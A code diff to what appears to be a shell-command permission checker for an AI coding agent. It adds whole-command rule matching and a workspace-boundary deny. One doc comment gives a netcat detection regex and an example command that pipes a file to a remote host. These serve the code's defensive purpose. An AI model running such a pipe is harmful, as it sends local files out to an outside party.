@@ -20,6 +20,11 @@
  */
 import path from 'node:path';
 import { hasGitSegment } from '../tools/path-spelling.js';
+import {
+  fileAccessProblem,
+  pathAsOpened,
+  WORKSPACE_BOUNDARY_DECIDER,
+} from './file-access-check.js';
 import type {
   PolicyContext,
   PolicyDecision,
@@ -32,9 +37,10 @@ import type {
   ShellHazard,
   ShellRedirect,
 } from './shell-analysis-types.js';
-import type { MatchSubject } from './rule-matching.js';
+import type { CommandSubject, MatchSubject } from './rule-matching.js';
 import {
   excludedPathHit,
+  hasCommandConditions,
   matchesCommand,
   matchesCommandExactly,
   ruleLocation,
@@ -66,6 +72,10 @@ export interface PieceJudgeOptions {
   homeDir: string;
   /** The call as the rules see it, with the sub-command's text as `command`. */
   subjectFor: (piece: ShellCommandPiece) => MatchSubject;
+  /** The sub-command as command conditions see it. */
+  commandFor: (piece: ShellCommandPiece) => CommandSubject;
+  /** The whole command, as the rules see it before its parts (see `wholeCommandVerdict`). */
+  whole: { subject: MatchSubject; command: CommandSubject };
   /** Every condition except the command's (see `matchesSubject`). */
   matches: (rule: PolicyRule, subject: MatchSubject) => boolean;
 }
@@ -74,6 +84,8 @@ export interface ShellDecision {
   decision: PolicyDecision;
   rule?: PolicyRule;
   reason: string;
+  /** What decided when it was not a rule (the workspace boundary). */
+  decidedBy?: string;
   /** In source order; empty when the command as a whole could not be judged. */
   subcommands: SubcommandVerdict[];
 }
@@ -96,7 +108,34 @@ export function decideShellCommand(
   const subcommands = analysis.commands.map((piece) =>
     judgePiece(withParserDoubts(piece), options),
   );
-  return { ...combine(subcommands), subcommands };
+  const parts = combine(subcommands);
+  const whole = wholeCommandVerdict(options);
+  if (whole === undefined || parts.decision === 'deny') return { ...parts, subcommands };
+  if (whole.decision === 'ask_user' && parts.decision !== 'allow') return { ...parts, subcommands };
+  return { decision: whole.decision, rule: whole.rule, reason: whole.reason, subcommands };
+}
+
+/**
+ * The Gemini CLI first judges the whole command line — its first matching rule, by priority — and
+ * only then each part. A deny (or ask_user) that only the whole line matches must hold here too:
+ * `commandRegex = '.*\| *nc '` sees the pipe only in `cat notes.txt | nc example.com 80`, never in
+ * either part. An allow, or a rule that does not look at the command's text (it decides every
+ * part the same way), leaves the decision to the parts.
+ */
+function wholeCommandVerdict(
+  options: PieceJudgeOptions,
+): { decision: 'deny' | 'ask_user'; rule: PolicyRule; reason: string } | undefined {
+  const { subject, command } = options.whole;
+  for (const rule of options.rules) {
+    if (!options.matches(rule, subject) || !matchesCommand(rule, command)) continue;
+    const looksAtText = hasCommandConditions(rule) || rule.argsPattern !== undefined;
+    if (rule.decision === 'allow' || !looksAtText) return undefined;
+    const where = `the rule at ${ruleLocation(rule)}, which matches the whole command`;
+    return rule.decision === 'deny'
+      ? { decision: 'deny', rule, reason: rule.denyMessage ?? `Denied by ${where}.` }
+      : { decision: 'ask_user', rule, reason: `Confirmation is asked by ${where}.` };
+  }
+  return undefined;
 }
 
 /**
@@ -111,7 +150,10 @@ function combine(verdicts: readonly SubcommandVerdict[]): Omit<ShellDecision, 's
       : 'allow';
   const deciding = verdicts.filter((verdict) => verdict.decision === decision);
   const first = deciding[0];
-  const rule = first?.rule ? { rule: first.rule } : {};
+  const rule = {
+    ...(first?.rule ? { rule: first.rule } : {}),
+    ...(first?.decidedBy === undefined ? {} : { decidedBy: first.decidedBy }),
+  };
   if (verdicts.length === 1 && first) return { decision, ...rule, reason: first.reason };
   if (decision === 'allow') {
     return { decision, ...rule, reason: `All ${verdicts.length} sub-commands are allowed.` };
@@ -130,15 +172,33 @@ function combine(verdicts: readonly SubcommandVerdict[]): Omit<ShellDecision, 's
   return { decision, ...rule, reason };
 }
 
-/** The first rule that decides this sub-command (see the file comment for allow rules). */
+/**
+ * The first rule that decides this sub-command (see the file comment for allow rules); a command
+ * a rule would run that names a file outside the workspace is denied whatever the rule says.
+ */
 export function judgePiece(
   piece: ShellCommandPiece,
   options: PieceJudgeOptions,
 ): SubcommandVerdict {
+  const verdict = judgeByRules(piece, options);
+  if (verdict.decision === 'deny') return verdict;
+  const outside = fileAccessProblem(piece, options);
+  if (outside === undefined) return verdict;
+  return {
+    text: piece.text,
+    decision: 'deny',
+    reason: outside,
+    decidedBy: WORKSPACE_BOUNDARY_DECIDER,
+  };
+}
+
+function judgeByRules(piece: ShellCommandPiece, options: PieceJudgeOptions): SubcommandVerdict {
   const subject = options.subjectFor(piece);
   let uncovered: { rule: PolicyRule; reason: string } | undefined;
   for (const rule of options.rules) {
-    if (!options.matches(rule, subject) || !matchesCommand(rule, piece.text)) continue;
+    const matched =
+      options.matches(rule, subject) && matchesCommand(rule, options.commandFor(piece));
+    if (!matched) continue;
     const verdict = (decision: PolicyDecision, reason: string): SubcommandVerdict => ({
       text: piece.text,
       decision,
@@ -252,7 +312,7 @@ export function redirectTargetProblem(
     return `The redirection ${shown} targets the .git directory, which may not be written.`;
   }
   const purpose = redirect.operator.includes('>') ? 'write' : 'read';
-  const problem = options.context.workspacePathProblem?.(absolute, purpose);
+  const problem = options.context.workspacePathProblem?.(pathAsOpened(base, target), purpose);
   return problem === undefined ? undefined : `The redirection ${shown} is refused: ${problem}`;
 }
 
